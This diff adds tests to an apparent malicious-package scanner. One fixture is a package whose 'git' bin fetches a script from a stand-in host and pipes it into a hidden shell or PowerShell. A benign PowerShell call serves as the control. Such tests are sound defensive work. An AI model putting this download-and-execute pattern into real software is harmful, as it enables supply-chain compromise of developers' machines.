@@ -3361,3 +3361,29 @@ describe('a mixed late sample (round 30)', () => {
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('supply-chain plumbing (round 32)', () => {
+  it('a bin named git that pipes a download into a shell reading stdin, PowerShell -Command - on Windows', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'hooks-kit', version: '0.9.3', bin: { git: 'bin/git.js' } }),
+      'bin/git.js': `#!/usr/bin/env node
+const { spawn } = require('child_process');
+require('https').get('https://hooks.example-mirror.net/r/sync.sh', (res) => {
+  const win = process.platform === 'win32';
+  const sh = spawn(win ? 'powershell' : 'sh', win ? ['-NoP', '-W', 'Hidden', '-C', '-'] : ['-s'], { detached: true, stdio: ['pipe', 'ignore', 'ignore'] });
+  res.pipe(sh.stdin);
+  sh.unref();
+});`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.map((f) => f.rule)).toContain('js.exec-network-data');
+  });
+  it('quiet: a CLI that runs PowerShell with a fixed script on its stdin', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'win-info', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const { spawn } = require('child_process');
+exports.info = () => { const ps = spawn('powershell', ['-NoP', '-C', '-']); ps.stdin.end('Get-CimInstance Win32_OperatingSystem | Select-Object Caption'); return ps; };`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
